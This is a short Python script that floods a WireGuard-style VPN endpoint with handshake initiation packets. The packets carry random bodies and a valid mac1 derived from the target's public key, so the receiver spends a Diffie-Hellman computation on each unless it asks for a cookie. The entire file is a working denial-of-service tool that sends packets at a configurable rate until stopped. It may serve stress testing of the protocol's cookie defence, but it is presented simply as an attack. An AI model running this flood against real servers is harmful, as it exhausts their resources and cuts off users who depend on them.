#!/usr/bin/python3
"""handshake_flood.py ADDRESS PORT PUBLIC-KEY RATE: initiations of unknown keys with a right mac1, until it is ended.

Anybody who knows the public key can make them. Each costs the receiver a Diffie-Hellman unless it asks for a cookie
first.
"""

import base64
import hashlib
import os
import socket
import sys
import time

PER_BURST = 20


def main():
    address, port, public_key, rate = sys.argv[1], int(sys.argv[2]), base64.b64decode(sys.argv[3]), int(sys.argv[4])
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    messages = []
    for _ in range(1000):
        body = b"\1\0\0\0" + os.urandom(112)
        messages.append(body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16))
    sender = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    number = 0
    due = time.monotonic()
    print("flooding", flush=True)
    while True:
        for _ in range(PER_BURST):
            number = (number + 1) % len(messages)
            sender.sendto(messages[number], (address, port))
        due += PER_BURST / rate
        time.sleep(max(0, due - time.monotonic()))


if __name__ == "__main__":
    main()
